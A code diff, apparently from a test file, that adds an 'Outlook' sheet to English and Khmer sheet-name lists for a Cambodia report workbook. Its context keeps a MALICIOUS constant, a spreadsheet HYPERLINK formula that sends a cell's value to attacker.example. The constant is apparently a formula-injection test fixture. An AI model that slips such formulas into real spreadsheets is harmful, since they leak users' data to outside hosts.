@@ -27,8 +27,17 @@ def cambodia(seeded):
     return cambodia_2024(seeded)
 
 
-ENGLISH_SHEETS = ["Cover", "Summary", "Sub-indices by edition", "Components", "Peers (ASEAN)", "Targets and status", "Sources and method"]
-KHMER_SHEETS = ["ទំព័រមុខ", "សេចក្តីសង្ខេប", "អនុសន្ទស្សន៍តាមឆ្នាំ", "សមាសធាតុ", "ប្រទេសអាស៊ាន", "គោលដៅ និងស្ថានភាព", "ប្រភព និងវិធីសាស្ត្រ"]
+ENGLISH_SHEETS = [
+    "Cover",
+    "Summary",
+    "Sub-indices by edition",
+    "Components",
+    "Peers (ASEAN)",
+    "Targets and status",
+    "Outlook",
+    "Sources and method",
+]
+KHMER_SHEETS = ["ទំព័រមុខ", "សេចក្តីសង្ខេប", "អនុសន្ទស្សន៍តាមឆ្នាំ", "សមាសធាតុ", "ប្រទេសអាស៊ាន", "គោលដៅ និងស្ថានភាព", "ទស្សនវិស័យ", "ប្រភព និងវិធីសាស្ត្រ"]
 MALICIOUS = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
 
 
